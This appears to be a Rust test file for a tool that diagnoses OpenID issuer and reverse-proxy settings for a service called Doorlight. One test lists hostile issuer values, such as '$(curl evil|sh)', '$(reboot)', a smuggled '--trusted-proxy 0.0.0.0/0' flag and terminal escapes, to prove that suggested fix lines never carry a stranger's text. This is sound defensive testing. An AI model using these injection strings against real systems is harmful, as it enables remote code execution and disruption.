use super::super::finding::Level;
use super::*;

fn issuer() -> Issuer {
    "https://id.example.org".parse().unwrap()
}

fn listen() -> SocketAddr {
    "0.0.0.0:8080".parse().unwrap()
}

fn answer(status: u16, body: &str) -> Answer {
    Answer {
        status,
        location: None,
        body: body.as_bytes().to_vec(),
    }
}

#[test]
fn each_way_to_spell_another_issuer_has_its_name() {
    let expected = "https://id.example.org";
    for (found, words) in [
        ("https://id.example.org", None),
        ("https://id.example.org/", Some("slash")),
        ("https://ID.example.org", Some("capital letters")),
        ("https://id.example.org:443", Some("port that its scheme")),
        ("https://id.example.org:443/", Some("port that its scheme")),
        ("https://id.example.org:8443", Some("another port")),
        ("http://id.example.org", Some("http and https")),
        ("https://id.example.org/id", Some("another path")),
        ("https://www.example.org", Some("another host")),
        ("doorlight", Some("no address")),
    ] {
        match (difference(expected, found), words) {
            (None, None) => {}
            (Some(said), Some(words)) => assert!(said.contains(words), "{found}: {said}"),
            (said, _) => panic!("{found}: {said:?}"),
        }
    }
}

#[test]
fn a_setting_that_is_spelt_otherwise_is_noted() {
    for (given, words) in [
        ("https://id.example.org:443", "port that its scheme"),
        ("https://id.example.org/", "slash"),
        ("https://ID.example.org", "capital letters"),
    ] {
        let finding = spelling(&given.parse().unwrap()).unwrap();
        assert_eq!(finding.level, Level::Note);
        assert!(finding.found.contains(words), "{finding:?}");
        assert_eq!(
            finding.change.as_deref(),
            Some("--issuer https://id.example.org")
        );
    }
    assert_eq!(spelling(&issuer()), None);
}

#[test]
fn the_same_issuer_is_ok_and_another_is_a_fault_with_the_line() {
    let said = |issuer_said: &str| {
        let body = format!("{{\"issuer\":\"{issuer_said}\"}}");
        judge(&issuer(), listen(), Ok(&answer(200, &body)), true)
    };
    assert_eq!(said("https://id.example.org").level, Level::Ok);
    let other = said("https://id.example.org:8443/id");
    assert_eq!(other.level, Level::Fault);
    assert_eq!(
        other.change.as_deref(),
        Some("--issuer https://id.example.org:8443/id")
    );
    // A stranger at that address writes no line of ours.
    let forged = said("https://x\\u001b[2J\\nok address");
    assert!(!forged.found.chars().any(char::is_control), "{forged:?}");
}

#[test]
fn no_line_to_type_has_what_a_stranger_wrote() {
    let judged = |said: &str, assured| {
        let body = serde_json::json!({ "issuer": said }).to_string();
        judge(&issuer(), listen(), Ok(&answer(200, &body)), assured)
    };
    for said in [
        "https://id.example.org$(curl evil|sh)",
        "https://id.example.org/$(reboot)",
        "https://id.example.org/x;reboot",
        "https://id.example.org/x&reboot",
        "https://id.example.org/'x'",
        "https://id.example.org/x|sh",
        "https://id.example.org/`reboot`",
        "https://id.example.org --trusted-proxy 0.0.0.0/0",
        "https://id.example.org/?a=b",
        "https://user@id.example.org",
        "https://evil.example",
        "http://id.example.org",
        "--trusted-proxy 0.0.0.0/0",
        // As it is set already.
        "https://id.example.org:443",
    ] {
        let finding = judged(said, true);
        assert_eq!((finding.level, &finding.change), (Level::Fault, &None));
    }
    let finding = judged("https://id.example.org/other", false);
    assert_eq!((finding.level, &finding.change), (Level::Fault, &None));
    assert!(finding.found.contains("does not prove"), "{finding:?}");
    let on = Answer {
        status: 302,
        location: Some("https://id.example.org:8443/".to_owned()),
        body: Vec::new(),
    };
    let finding = judge(&issuer(), listen(), Ok(&on), false);
    assert_eq!((finding.level, finding.change), (Level::Fault, None));
}

#[test]
fn what_does_not_answer_as_doorlight_is_a_fault() {
    for (status, body, words) in [
        (200, "<html>", "is no Doorlight"),
        (200, "[]", "is no Doorlight"),
        (502, "", "does not reach Doorlight"),
        (401, "", "answers 401"),
        (404, "", "answers 404"),
    ] {
        let finding = judge(&issuer(), listen(), Ok(&answer(status, body)), true);
        assert_eq!(finding.level, Level::Fault, "{finding:?}");
        assert!(finding.found.contains(words), "{finding:?}");
    }
    let dead = judge(&issuer(), listen(), Ok(&answer(502, "")), true);
    assert_eq!(
        dead.change.as_deref(),
        Some("proxy_pass http://127.0.0.1:8080;")
    );
    let below: Issuer = "https://example.org/id".parse().unwrap();
    let stripped = judge(&below, listen(), Ok(&answer(404, "")), true);
    assert!(
        stripped.change.unwrap().starts_with("location /id/ "),
        "{}",
        stripped.found
    );
}

#[test]
fn a_redirect_names_where_it_leads_and_the_line_if_that_is_ours() {
    let to = |issuer: &str, location: &str| {
        let answer = Answer {
            status: 301,
            location: Some(location.to_owned()),
            body: Vec::new(),
        };
        judge(&issuer.parse().unwrap(), listen(), Ok(&answer), true)
    };
    let document = ".well-known/openid-configuration";
    let secure = to(
        "http://localhost:8080",
        &format!("https://localhost/{document}"),
    );
    assert_eq!(secure.level, Level::Fault);
    assert_eq!(
        secure.change.as_deref(),
        Some("--issuer https://localhost"),
        "{secure:?}"
    );
    let port = to(
        "https://id.example.org",
        &format!("https://id.example.org:8443/{document}"),
    );
    assert_eq!(
        port.change.as_deref(),
        Some("--issuer https://id.example.org:8443")
    );
    for elsewhere in [
        "https://auth.example.org/login?rd=x",
        "/login",
        "https://id.example.org/portal",
    ] {
        let finding = to("https://id.example.org", elsewhere);
        assert_eq!(finding.level, Level::Fault);
        assert_eq!(finding.change, None, "{finding:?}");
    }
}

#[test]
fn an_address_outside_that_cannot_be_reached_from_inside_is_a_hairpin() {
    let public = Unreached::Silent("1.2.3.4:443".parse().unwrap());
    let finding = judge(&issuer(), listen(), Err(&public), false);
    assert_eq!(finding.level, Level::Warning);
    assert!(finding.found.contains("hairpin"), "{finding:?}");
    assert!(
        finding.change.unwrap().ends_with(" id.example.org"),
        "{}",
        finding.found
    );
    for unreached in [
        Unreached::NoSuchName,
        Unreached::Refused("127.0.0.1:443".parse().unwrap()),
        Unreached::Silent("10.0.0.1:443".parse().unwrap()),
        Unreached::NoTls("received corrupt message".to_owned()),
        Unreached::NoAnswer("connection reset".to_owned()),
    ] {
        let finding = judge(&issuer(), listen(), Err(&unreached), false);
        assert_eq!(finding.level, Level::Fault, "{finding:?}");
    }
}
